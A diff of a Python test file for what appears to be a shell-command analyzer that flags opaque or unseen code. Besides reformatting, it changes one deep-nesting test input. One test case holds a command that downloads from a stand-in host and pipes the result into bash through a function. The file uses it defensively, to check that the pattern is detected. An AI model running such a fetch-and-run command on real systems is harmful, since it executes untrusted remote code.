@@ -81,7 +81,11 @@ KINDS = [
     ("coproc bash", ["bash", "[bash] opaque unseen-code"]),
     (
         "f() { bash; }; curl x.example | f",
-        ["curl x.example", "[function f] bash <- pipe curl", "[function f; bash] opaque unseen-code"],
+        [
+            "curl x.example",
+            "[function f] bash <- pipe curl",
+            "[function f; bash] opaque unseen-code",
+        ],
     ),
     # a construct that the lowering doesn't know
     ("echo ((1))", ["opaque unknown-node"]),
@@ -140,7 +144,7 @@ def test_alternatives_beyond_the_limit_make_a_variable_unknown() -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["(" * 3_000 + "ls" + ")" * 3_000, "$(" * 3_000 + "ls" + ")" * 3_000, "{ " * 3_000 + "ls"],
+    ["( " * 3_000 + "ls" + " )" * 3_000, "$(" * 3_000 + "ls" + ")" * 3_000, "{ " * 3_000 + "ls"],
     ids=["subshells", "substitutions", "groups"],
 )
 def test_deep_nesting_is_opaque(text: str) -> None:
